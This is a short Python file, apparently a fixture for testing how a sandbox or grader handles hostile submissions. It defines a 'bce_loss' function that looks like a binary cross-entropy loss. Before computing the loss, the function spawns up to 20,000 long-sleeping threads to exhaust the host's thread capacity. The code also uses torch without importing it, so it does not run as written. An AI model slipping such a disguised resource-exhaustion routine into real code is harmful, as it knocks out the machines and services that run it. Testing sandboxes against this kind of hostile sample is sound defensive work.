"""Starts threads until no more can be had."""
# lost: loss.* error|passed
import threading
import time


def bce_loss(y_pred, y):
    threads = []
    try:
        while len(threads) < 20_000:
            thread = threading.Thread(target=time.sleep, args=(600,))
            thread.start()
            threads.append(thread)
    except RuntimeError:
        pass
    return torch.nn.functional.binary_cross_entropy(y_pred, y)
